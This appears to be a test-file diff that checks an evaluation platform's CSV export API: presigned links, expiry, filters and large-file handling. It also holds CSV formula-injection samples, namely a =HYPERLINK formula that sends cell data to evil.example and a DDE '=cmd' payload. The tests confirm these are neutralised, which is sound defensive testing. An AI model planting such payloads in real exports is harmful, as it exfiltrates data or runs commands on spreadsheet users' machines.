@@ -1,0 +1,255 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { RunRecord, Score } from '../../lambdas/core/schemas/record.js';
+import { parseCsv } from '../support/csv.js';
+import { makeRecord, makeScore, seedRecords } from '../support/records.js';
+import { type ApiClient, apiClient, startTestStack } from '../support/stack.js';
+
+let stack: Awaited<ReturnType<typeof startTestStack>>;
+let api: ApiClient;
+let projectId: string;
+let runId: string;
+let otherRunId: string;
+const metrics: Record<'correct' | 'quality' | 'evil', { id: string; versionId: string; name: string }> = {} as never;
+const records: RunRecord[] = [];
+const scores = new Map<string, Score[]>();
+
+/** Text a spreadsheet would run as a formula, and other cells that must survive the round trip. */
+const TRICKY = [
+  '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
+  '+1+2',
+  '-3',
+  '@SUM(A1:A2)',
+  '\tstarts with a tab',
+  '\rstarts with a CR',
+  'two\r\nlines, a comma and "quotes"',
+  'héllo wörld 🌍',
+  '',
+  'plain',
+];
+const BIG_RECORDS = 24;
+const BIG_CELL = 420_000;
+
+beforeAll(async () => {
+  stack = await startTestStack({ pipeline: false });
+  api = apiClient(stack.url, stack.apiKey);
+  projectId = (await api.post('/projects', { name: 'exports' })).body.id;
+  const testset = (
+    await api.post(`/projects/${projectId}/testsets`, {
+      name: 'qa',
+      fieldMapping: { inputs: ['question', 'context'], expected: ['answer'], metadata: [] },
+    })
+  ).body;
+  const metric = async (name: string, outputType: string) =>
+    (await api.post(`/projects/${projectId}/metrics`, { name, evalType: 'human', outputType })).body;
+  metrics.correct = await metric('correct', 'boolean');
+  metrics.quality = await metric('quality', 'int');
+  metrics.evil = await metric('=cmd|"/c calc"!A1', 'float');
+  const run = async (metricIds: string[]) =>
+    (await api.post(`/projects/${projectId}/runs`, { metricIds, testsetId: testset.id })).body.id as string;
+  runId = await run([metrics.correct.id, metrics.quality.id, metrics.evil.id]);
+  otherRunId = await run([metrics.quality.id]);
+
+  const base = Date.now() - 60_000;
+  const allScores: Array<Score & { runId: string }> = [];
+  for (let i = 0; i < 300; i++) {
+    const tricky = TRICKY[i % TRICKY.length]!;
+    const big = i < BIG_RECORDS;
+    const record = makeRecord({
+      runId,
+      createdAtMs: base,
+      position: i,
+      testcaseId: `tc${i}`,
+      status: i % 13 === 5 ? 'errored' : 'completed',
+      error: i % 13 === 5 ? '-boom: the system failed' : null,
+      // Keys in another order than the testset's mapping; `extra` only on the last record.
+      inputs: {
+        context: i % 4 === 0 ? { nested: [1, 2], note: tricky } : -i,
+        question: tricky,
+        ...(i === 299 ? { extra: '=extra' } : {}),
+      },
+      expected: { answer: `answer ${i}` },
+      outputs: { response: big ? `${String(i).padStart(4, '0')}${'y'.repeat(BIG_CELL)}` : `reply ${tricky}` },
+      latencyMs: i % 3 === 0 ? null : 100 + i,
+      usage: i % 2 ? { promptTokens: 10, completionTokens: i } : null,
+      costUsd: i % 2 ? 0.0001 * i : null,
+      trial: i % 2,
+    });
+    records.push(record);
+    const own: Array<Score & { runId: string }> = [];
+    if (record.status === 'completed') {
+      own.push(
+        makeScore(
+          runId,
+          record.id,
+          metrics.correct,
+          { binaryScore: i % 3 !== 0, reasoning: `line 1\nline ${i}` },
+          i % 3 !== 0,
+        ),
+      );
+      if (i % 5 !== 0)
+        own.push(makeScore(runId, record.id, metrics.quality, { intScore: (i % 5) + 1 }, (i % 5) + 1 >= 4));
+      own.push(
+        makeScore(runId, record.id, metrics.evil, { floatScore: -0.5 + i / 1000, reasoning: tricky }, i % 2 === 0),
+      );
+    }
+    scores.set(record.id, own);
+    allScores.push(...own);
+  }
+  await seedRecords(stack, projectId, records, allScores);
+  // A record of another run, which a run export must leave out.
+  await seedRecords(stack, projectId, [makeRecord({ runId: otherRunId, createdAtMs: base, position: 5_000 })]);
+}, 120_000);
+afterAll(() => stack?.stop());
+
+/** What a spreadsheet-safe cell holding this text looks like. */
+const safe = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+const cell = (value: unknown): string => {
+  if (value === null || value === undefined) return '';
+  if (typeof value === 'string') return safe(value);
+  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
+  return JSON.stringify(value);
+};
+
+function expectedRow(record: RunRecord): string[] {
+  const own = scores.get(record.id) ?? [];
+  const metricCells = [metrics.correct, metrics.quality, metrics.evil].flatMap((m) => {
+    const s = own.find((x) => x.metricId === m.id);
+    if (!s) return ['', '', ''];
+    return [
+      cell(s.score.binaryScore ?? s.score.intScore ?? s.score.floatScore),
+      cell(s.passed),
+      cell(s.score.reasoning),
+    ];
+  });
+  return [
+    record.id,
+    cell(record.testcaseId),
+    record.status,
+    String(record.trial),
+    cell(record.inputs.question),
+    cell(record.inputs.context),
+    cell(record.inputs.extra),
+    cell(record.expected.answer),
+    cell(record.outputs.response),
+    ...metricCells,
+    cell(record.latencyMs),
+    record.usage ? String(record.usage.promptTokens + record.usage.completionTokens) : '',
+    cell(record.costUsd),
+    cell(record.error),
+  ];
+}
+
+/** Decodes the body keeping a BOM (Response.text() would drop it). */
+async function download(url: string) {
+  const res = await fetch(url);
+  return { res, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()) };
+}
+
+describe('CSV exports', () => {
+  it('exports a run through a presigned link that plain fetch downloads and that parses back to the same rows', async () => {
+    const started = Date.now();
+    const created = await api.post(`/runs/${runId}/exports`, {});
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    expect(created.body.rows).toBe(300);
+    const expiresAt = Date.parse(created.body.expiresAt);
+    expect(expiresAt).toBeGreaterThan(started + 898_000);
+    expect(expiresAt).toBeLessThanOrEqual(Date.now() + 900_000);
+
+    const { res, text } = await download(created.body.url);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+    expect(Number(res.headers.get('content-length'))).toBe(created.body.bytes);
+    // Past one 8 MiB part: the upload was multipart, and every large cell arrived whole.
+    expect(created.body.bytes).toBeGreaterThan(BIG_RECORDS * BIG_CELL);
+    expect(text.slice(0, text.indexOf('\n') + 1)).toMatch(/^\uFEFFrecordId,.*\r\n$/);
+    expect(text.endsWith('\r\n')).toBe(true);
+
+    const { bom, rows } = parseCsv(text);
+    expect(bom).toBe(true);
+    expect(rows[0]).toEqual([
+      'recordId',
+      'testcaseId',
+      'status',
+      'trial',
+      'inputs.question',
+      'inputs.context',
+      'inputs.extra',
+      'expected.answer',
+      'outputs.response',
+      'correct',
+      'correct passed',
+      'correct reasoning',
+      'quality',
+      'quality passed',
+      'quality reasoning',
+      `'${metrics.evil.name}`,
+      `'${metrics.evil.name} passed`,
+      `'${metrics.evil.name} reasoning`,
+      'latencyMs',
+      'tokens',
+      'costUsd',
+      'error',
+    ]);
+    expect(rows.slice(1)).toEqual(records.map(expectedRow));
+  });
+
+  it('neutralises formulas: =HYPERLINK(...) comes back as text behind a quote, negative numbers stay numbers', async () => {
+    const { text } = await download((await api.post(`/runs/${runId}/exports`, {})).body.url);
+    const rows = parseCsv(text).rows;
+    const question = rows[0]!.indexOf('inputs.question');
+    const evil = rows[0]!.indexOf(`'${metrics.evil.name}`);
+    expect(rows[1]![question]).toBe(`'${TRICKY[0]}`);
+    expect(text).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
+    expect(rows.slice(1).map((r) => r[question])).toContain("'@SUM(A1:A2)");
+    expect(rows[1]![evil]).toBe('-0.5');
+    expect(rows[1]![rows[0]!.indexOf('inputs.context')]).toBe(JSON.stringify({ nested: [1, 2], note: TRICKY[0] }));
+    expect(rows[2]![rows[0]!.indexOf('inputs.context')]).toBe('-1');
+  });
+
+  it('refuses an expired link; GET /exports/{id} signs a fresh one', async () => {
+    const created = await api.post(`/runs/${runId}/exports`, { expiresIn: 1 });
+    expect(created.status).toBe(201);
+    const expiresAt = Date.parse(created.body.expiresAt);
+    expect(expiresAt).toBeLessThanOrEqual(Date.now() + 1_000);
+    await new Promise((resolve) => setTimeout(resolve, Math.max(0, expiresAt - Date.now()) + 1_100));
+    const expired = await download(created.body.url);
+    expect(expired.res.status).toBe(403);
+    expect(expired.text).toContain('Request has expired');
+
+    const again = await api.get(`/exports/${created.body.id}?expiresIn=60`);
+    expect(again.status).toBe(200);
+    expect(again.body).toMatchObject({ id: created.body.id, rows: 300, bytes: created.body.bytes });
+    const fresh = await download(again.body.url);
+    expect(fresh.res.status).toBe(200);
+    expect(parseCsv(fresh.text).rows).toHaveLength(301);
+  });
+
+  it('validates link lifetimes and unknown ids', async () => {
+    for (const expiresIn of [0, 86_401, 1.5]) {
+      const res = await api.post(`/runs/${runId}/exports`, { expiresIn });
+      expect(res.status).toBe(400);
+      expect(res.body.details[0].path).toBe('expiresIn');
+    }
+    expect((await api.post('/runs/nope/exports', {})).status).toBe(404);
+    expect((await api.get('/exports/nope')).status).toBe(404);
+  });
+
+  it('exports the project’s records that match the records-page filters, newest first', async () => {
+    const res = await api.post(`/projects/${projectId}/records/exports`, {
+      metricId: metrics.quality.id,
+      passed: true,
+    });
+    expect(res.status, JSON.stringify(res.body)).toBe(201);
+    const expected = records
+      .filter((r) => scores.get(r.id)?.some((s) => s.metricId === metrics.quality.id && s.passed === true))
+      .map((r) => r.id)
+      .sort((a, b) => (a < b ? 1 : -1));
+    expect(res.body.rows).toBe(expected.length);
+    const { rows } = parseCsv((await download(res.body.url)).text);
+    expect(rows.slice(1).map((r) => r[0])).toEqual(expected);
+    const header = rows[0]!;
+    expect(header.slice(0, 4)).toEqual(['recordId', 'testcaseId', 'status', 'trial']);
+    expect(rows.slice(1).every((r) => r.length === header.length)).toBe(true);
+    expect(rows.slice(1).every((r) => r[header.indexOf('quality passed')] === 'true')).toBe(true);
+  });
+});
